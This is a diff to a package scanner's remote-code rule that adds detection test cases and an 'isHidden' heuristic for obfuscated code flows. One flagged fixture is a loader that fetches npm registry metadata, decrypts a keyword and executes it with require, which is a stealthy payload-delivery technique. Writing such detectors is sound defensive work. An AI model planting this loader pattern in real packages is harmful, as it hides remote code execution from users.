@@ -32,6 +32,20 @@ export const remoteCode: Rule = {
     examples: {
       flags: [
         {
+          title: 'what a registry knows of a package is deciphered and run, when called',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const { createDecipheriv } = require('crypto')\n" +
+              'exports.notes = async (key, iv) => {\n' +
+              "  const about = await (await fetch('https://registry.npmjs.org/a-notes')).json()\n" +
+              "  const d = createDecipheriv('aes-256-cbc', key, iv)\n" +
+              "  const text = d.update(about.keywords[0], 'base64', 'utf8') + d.final('utf8')\n" +
+              "  Reflect.construct(Function, ['require', text])(require)\n" +
+              '}\n',
+          },
+        },
+        {
           title: 'a hook pipes a download into a shell',
           files: {
             'package.json':
@@ -67,6 +81,17 @@ export const remoteCode: Rule = {
         },
       ],
       passes: [
+        {
+          title: 'a plugin is taken from a repository, as its service answers',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              'exports.load = async path => {\n' +
+              '  const file = await (await fetch(`https://api.github.com/repos/${path}`)).json()\n' +
+              "  return new Function('module', Buffer.from(file.content, 'base64').toString())\n" +
+              '}\n',
+          },
+        },
         {
           title: 'a hook downloads data and writes it to a cache',
           files: {
@@ -188,6 +213,20 @@ function isGuess(flow: Flow, { kind }: Place): boolean {
   return !flow.certain && kind === 'unknown' && isFar(flow)
 }
 
+/**
+ * A program that lies where everybody may leave texts, and does not look like one there. Services answer in base64; what
+ * a registry knows of a package is no program in any spelling.
+ */
+function isHidden({ hops, certain }: Flow, { kind }: Place): boolean {
+  const spelling =
+    kind === 'supply'
+      ? /^(?:base64|hex|deciphered|xor|char-codes|reversed)$/
+      : kind === 'service'
+        ? /^(?:deciphered|xor|char-codes|reversed)$/
+        : undefined
+  return certain && spelling !== undefined && hops.some(({ label }) => spelling.test(label))
+}
+
 function isFar({ source, sink }: Flow): boolean {
   return source.at.path !== sink.at.path || Math.abs(source.at.line - sink.at.line) > 2_000
 }
@@ -232,6 +271,7 @@ function weigh(flow: Flow, place: Place, inspection: Inspection, namesake: boole
   // An emulator or loader runs what its caller names; a host written in the code was not the caller's choice.
   if (place.kind === 'capture') return flow.certain ? 'block' : 'ask'
   if (namesake) return 'note'
+  if (isHidden(flow, place)) return 'ask'
   return isStranger(place) ? (flow.certain ? 'ask' : 'note') : undefined
 }
 
